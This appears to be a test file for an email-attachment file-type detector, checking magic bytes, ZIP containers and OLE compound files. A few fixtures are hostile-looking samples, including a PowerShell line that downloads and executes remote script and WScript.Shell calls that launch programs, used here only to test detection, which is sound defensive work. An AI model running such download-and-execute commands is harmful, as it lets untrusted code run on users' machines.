import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Member, makeZip } from '../../test/helpers/archive-files.ts';
import { withAttachments } from '../../test/helpers/attachments.ts';
import type { FileView } from '../core/index.ts';
import { parseMessage } from '../mime/index.ts';
import { fileViews } from './index.ts';
import { fileLimits } from './limits.ts';

/** The first part of a message with this file, seen as a file. */
function viewOf(file: Buffer | string): FileView {
  const bytes = typeof file === 'string' ? Buffer.from(file, 'latin1') : file;
  const raw = `Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n${bytes.toString('base64')}\n`;
  return fileViews()(parseMessage(Buffer.from(raw)).root);
}

const files: readonly (readonly [extension: string | undefined, content: string])[] = [
  ['pdf', '%PDF-1.7\n'],
  ['pdf', `junk before\n${' '.repeat(500)}%PDF-1.4\n`],
  ['exe', `MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0${'\0'.repeat(18)}\x02\x01`],
  ['dll', `MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0${'\0'.repeat(18)}\x02\x21`],
  ['exe', `MZ${'\0'.repeat(100)}`],
  ['elf', '\x7fELF\x02\x01\x01\0'],
  ['macho', '\xcf\xfa\xed\xfe\x07\0\0\x01'],
  ['macho', '\xca\xfe\xba\xbe\0\0\0\x02'],
  ['class', '\xca\xfe\xba\xbe\0\0\0\x34'],
  ['lnk', 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46'],
  ['rar', 'Rar!\x1a\x07\x01\0'],
  ['7z', '7z\xbc\xaf\x27\x1c\0\x04'],
  ['cab', 'MSCF\0\0\0\0'],
  ['bz2', 'BZh91AY&SY'],
  ['bmp', `BM${'\0'.repeat(12)}\x28\0\0\0`],
  [undefined, 'BM is the beginning of this sentence'],
  ['webp', 'RIFF\0\0\0\0WEBP'],
  ['heic', '\0\0\0\x18ftypheic'],
  ['mp4', '\0\0\0\x18ftypisom'],
  ['p7m', '\x30\x82\x01\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02'],
  ['html', '  <!DOCTYPE html><html><body>'],
  ['html', '<!-- x --><script>document.location="https://example.com"</script>'],
  ['html', '\xff\xfe<\0h\0t\0m\0l\0>\0'],
  ['hta', '<html><head><hta:application id="x"/></head>'],
  ['svg', '<?xml version="1.0"?><!-- c --><svg xmlns="http://www.w3.org/2000/svg">'],
  ['svg', '<svg width="1">'],
  ['xml', '<?xml version="1.0"?><invoice/>'],
  ['doc', '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'],
  ['rtf', '{\\rtf1 hello}'],
  ['py', '#!/usr/bin/env python3\nprint(1)\n'],
  ['sh', '#!/bin/bash\necho 1\n'],
  ['php', '<?php echo 1;'],
  ['bat', '@echo off\r\nstart x.exe\r\n'],
  ['js', 'var x = new ActiveXObject("WScript.Shell"); x.Run("calc");'],
  ['vbs', 'Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'],
  ['ps1', 'IEX (New-Object Net.WebClient).DownloadString("https://example.com")'],
  ['url', '[InternetShortcut]\r\nURL=https://example.com\r\n'],
  ['reg', 'Windows Registry Editor Version 5.00\r\n'],
  ['eml', 'From: a@example.com\nTo: b@example.com\nSubject: x\n\nHello\n'],
  [undefined, 'Dear Anna,\n\nthe set of documents you asked for is attached.\n'],
  [undefined, 'name,amount\nAnna,1\nBen,2\n'],
  [undefined, ''],
  [undefined, '\x01\x02\x03\x04\x05'],
];

for (const [extension, content] of files) {
  test(`content ${JSON.stringify(content.slice(0, 24))} is ${extension ?? 'nothing that is known'}`, () => {
    assert.equal(viewOf(content).type?.extension, extension);
  });
}

const containers: readonly (readonly [extension: string, members: readonly Member[]])[] = [
  ['docx', [{ name: '[Content_Types].xml' }, { name: 'word/document.xml' }]],
  ['docm', [{ name: 'word/document.xml' }, { name: 'word/vbaProject.bin' }]],
  ['xlsx', [{ name: 'xl/workbook.xml' }]],
  ['xlsm', [{ name: 'xl/workbook.xml' }, { name: 'xl/vbaProject.bin' }]],
  ['xlsb', [{ name: 'xl/workbook.bin' }]],
  ['pptx', [{ name: 'ppt/presentation.xml' }]],
  [
    'odt',
    [{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' }, { name: 'content.xml' }],
  ],
  ['ods', [{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet' }]],
  ['epub', [{ name: 'mimetype', content: 'application/epub+zip' }]],
  ['jar', [{ name: 'META-INF/MANIFEST.MF' }, { name: 'A.class' }]],
  ['apk', [{ name: 'META-INF/MANIFEST.MF' }, { name: 'AndroidManifest.xml' }]],
  ['zip', [{ name: 'mimetype', content: 'text/plain' }, { name: 'word.txt' }]],
];

for (const [extension, members] of containers) {
  test(`a ZIP file with ${members.map(({ name }) => name).join(', ')} is ${extension}`, () => {
    const { type, archive } = viewOf(makeZip(members));
    assert.equal(type?.extension, extension);
    assert.equal(archive?.members.length, members.length);
  });
}

/** An OLE compound file of which nothing is there but the directory ([MS-CFB] 2.2, 2.6). */
function makeOle(rootClass: string, streams: readonly string[]): Buffer {
  const header = Buffer.alloc(512);
  header.write('d0cf11e0a1b11ae1', 'hex');
  header.writeUInt16LE(9, 30);
  const entries = ['Root Entry', ...streams].map((name, i) => {
    const entry = Buffer.alloc(128);
    entry.write(name, 'utf16le');
    entry.writeUInt16LE(name.length * 2 + 2, 64);
    entry[66] = i === 0 ? 5 : 2;
    if (i === 0) entry.write(rootClass, 80, 'hex');
    return entry;
  });
  return Buffer.concat([header, ...entries, Buffer.alloc(512)]);
}

const noClass = '0'.repeat(32);
const compounds: readonly (readonly [extension: string, rootClass: string, streams: readonly string[]])[] = [
  ['doc', noClass, ['WordDocument']],
  ['xls', noClass, ['Workbook']],
  ['ppt', noClass, ['PowerPoint Document']],
  ['msg', noClass, ['__nameid_version1.0']],
  ['docx', noClass, ['EncryptedPackage']],
  ['msi', '84100c0000000000c000000000000046', []],
  ['ole', noClass, ['Something']],
];

for (const [extension, rootClass, streams] of compounds) {
  test(`an OLE file with class ${rootClass} and ${streams.join(', ') || 'no stream'} is ${extension}`, () => {
    const { type, archive } = viewOf(makeOle(rootClass, streams));
    assert.equal(type?.extension, extension);
    assert.equal(archive, undefined);
  });
}

test('a text for reading is no file, unless it is no text', () => {
  const of = (type: string, content: string): string | undefined =>
    fileViews()(parseMessage(Buffer.from(`Content-Type: ${type}\n\n${content}`)).root).type?.extension;
  assert.equal(of('text/html', '<html>'), undefined);
  assert.equal(of('text/html; name=a.html', '<html>'), 'html');
  assert.equal(of('text/plain', `MZ${'\0'.repeat(100)}`), 'exe');
  assert.equal(of('text/plain', 'MZ Holding, Zurich'), undefined);
});

test('all parts of a message share its bounds, and each is read once', () => {
  const message = parseMessage(
    withAttachments([
      { name: 'a.zip', content: makeZip([{ name: '1' }, { name: '2' }]) },
      { name: 'b.zip', content: makeZip([{ name: '3' }, { name: '4' }]) },
    ]),
  );
  const views = fileViews({ ...fileLimits, members: 3 });
  const [, , first, second] = message.parts;
  assert.equal(views(first!).archive?.members.length, 2);
  assert.equal(views(first!).archive, views(first!).archive);
  assert.equal(views(second!).archive?.members.length, 1);
  assert.equal(views(second!).archive?.isCut, true);
});
